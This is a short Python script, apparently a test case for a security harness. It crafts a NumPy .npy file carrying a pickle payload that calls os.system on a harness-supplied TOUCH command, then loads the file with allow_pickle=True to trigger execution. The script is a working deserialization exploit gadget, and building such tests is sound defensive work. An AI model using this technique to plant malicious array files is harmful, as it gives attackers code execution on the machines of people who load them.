# kind: gadgets
# tries: An .npy file with an object array

import os
from pathlib import Path

import numpy as np

head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
head += b" " * (117 - len(head)) + b"\n"
body = b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR."
path = Path(os.environ["OUTPUT_FILE_PATH"])
path.write_bytes(b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + body)
np.load(path, allow_pickle=True)
